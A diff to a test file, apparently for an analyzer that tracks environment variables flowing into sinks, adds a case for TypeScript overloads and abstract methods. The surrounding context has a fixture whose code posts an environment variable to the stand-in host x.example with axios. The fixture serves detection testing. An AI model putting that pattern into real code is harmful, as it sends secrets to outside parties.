@@ -39,6 +39,13 @@ const cases: [string, Record<string, string>, string[]][] = [
     ["A→test@net.ts:2"],
   ],
   [
+    "TypeScript overload signatures and abstract methods (no bodies) beside the implementation",
+    {
+      "main.ts": `abstract class Base {\n  abstract send(x: string): void;\n}\nclass Client extends Base {\n  send(x: string): void;\n  send(x: number): void;\n  send(x: unknown): void { sink(x); }\n}\nnew Client().send(process.env.A!);`,
+    },
+    ["A→test@7"],
+  ],
+  [
     "tsc CommonJS output with interop helpers",
     {
       "main.js": `"use strict";\nvar __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };\nObject.defineProperty(exports, "__esModule", { value: true });\nconst axios_1 = __importDefault(require("axios"));\nconst net_1 = require("./net");\n(0, net_1.send)(process.env.A);\naxios_1.default.post("https://x.example", { k: process.env.B });`,
